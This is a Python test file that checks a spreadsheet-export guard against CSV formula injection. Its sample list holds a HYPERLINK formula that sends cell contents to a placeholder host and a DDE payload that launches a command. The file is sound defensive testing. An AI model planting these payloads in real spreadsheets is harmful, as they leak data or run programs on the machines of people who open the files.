import csv
import io

import pytest

from mel.spreadsheets import csv_text, guard

CORPUS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", CORPUS)
def test_text_that_a_spreadsheet_would_run_is_made_inert(text):
    assert guard(text) == "'" + text


def test_plain_text_and_numbers_are_left_as_they_are():
    assert guard("Almaty") == "Almaty"
    assert guard(-2.5) == -2.5
    assert guard(None) is None


def test_csv_cells_come_back_guarded_and_none_as_empty():
    text = csv_text([["label", "value"], [CORPUS[0], None], ["ok", 3]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["label", "value"], ["'" + CORPUS[0], ""], ["ok", "3"]]
